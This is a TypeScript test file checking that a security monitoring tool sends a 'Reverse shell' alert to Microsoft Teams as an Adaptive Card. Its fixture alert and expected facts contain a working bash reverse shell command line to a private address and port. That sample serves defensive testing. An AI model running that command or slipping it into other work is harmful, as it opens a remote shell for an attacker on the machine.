import { afterAll, describe, expect, it } from "vitest";
import type { NotificationMessage } from "../message";
import { startHttpReceiver } from "../test-receivers";
import { sendTeams } from "./teams";

const receiver = await startHttpReceiver();
afterAll(() => receiver.close());

const message: NotificationMessage = {
  kind: "alert",
  deliveryId: "delivery-teams-1",
  notificationRule: { id: "n1", name: "critical" },
  windowMinutes: null,
  baseUrl: "https://kw.example.org",
  alerts: [
    {
      id: "a1",
      url: "https://kw.example.org/alerts/a1",
      rule: { id: "r1", name: "Reverse shell", tags: [] },
      severity: "critical",
      riskScore: 99,
      status: "open",
      timestamp: "2026-11-23T08:00:00.000Z",
      container: { id: "c1", name: "api", image: "api:2" },
      pod: { name: null, namespace: null },
      host: "node-1",
      process: { name: "bash", executable: "/bin/bash", commandLine: "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1" },
      user: "root",
      uploadId: null,
      sourceTokenId: null,
    },
  ],
};

describe("Teams workflow delivery to a real HTTP receiver", () => {
  it("posts a message whose attachment is an Adaptive Card with the alert's facts and a link", async () => {
    const outcome = await sendTeams({ kind: "teams", url: `${receiver.url}/workflows/abc?sig=secret` }, message);
    expect(outcome).toEqual({ ok: true, statusCode: 200 });
    const [request] = receiver.requests;
    expect(request?.path).toBe("/workflows/abc?sig=secret");
    expect(request?.headers["idempotency-key"]).toBe("delivery-teams-1");
    const body = JSON.parse(request?.body ?? "{}");
    expect(body.type).toBe("message");
    const [attachment] = body.attachments;
    expect(attachment.contentType).toBe("application/vnd.microsoft.card.adaptive");
    expect(attachment.content).toMatchObject({ type: "AdaptiveCard", version: "1.4" });
    const [title, facts] = attachment.content.body;
    expect(title).toMatchObject({ type: "TextBlock", text: "CRITICAL: Reverse shell in container api, host node-1" });
    expect(facts.type).toBe("FactSet");
    expect(facts.facts).toEqual(
      expect.arrayContaining([
        { title: "Command line", value: "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1" },
        { title: "Host", value: "node-1" },
      ]),
    );
    expect(attachment.content.actions).toEqual([
      { type: "Action.OpenUrl", title: "Open the alert in Keelwatch", url: "https://kw.example.org/alerts/a1" },
    ]);
  });
});
